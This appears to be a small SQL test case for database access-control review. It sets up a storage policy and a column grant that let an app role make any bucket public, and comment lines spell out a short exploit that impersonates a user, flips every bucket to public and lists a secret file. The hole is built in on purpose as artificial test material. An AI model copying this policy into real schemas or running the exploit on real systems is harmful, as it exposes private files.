-- Files of a public bucket are for all, and users were given the right to make any bucket public.
-- about: buckets, objects, public buckets
-- as: hf_proctorbay_app
-- exploit: SET request.jwt.claims = '{"sub": "e5000000-0000-4000-8000-00000000000a"}';
-- exploit: BEGIN;
-- exploit: UPDATE storage.buckets SET public = true;
-- exploit: SELECT name FROM storage.objects;
-- exploit: ROLLBACK;
-- shows: Road-secret.pdf
-- Schools with an open day show their papers to visitors.
CREATE POLICY "public buckets" ON storage.objects FOR SELECT
  USING (EXISTS (SELECT 1 FROM storage.buckets b WHERE b.id = objects.bucket_id AND b.public));
GRANT UPDATE (public) ON storage.buckets TO hf_proctorbay_app;
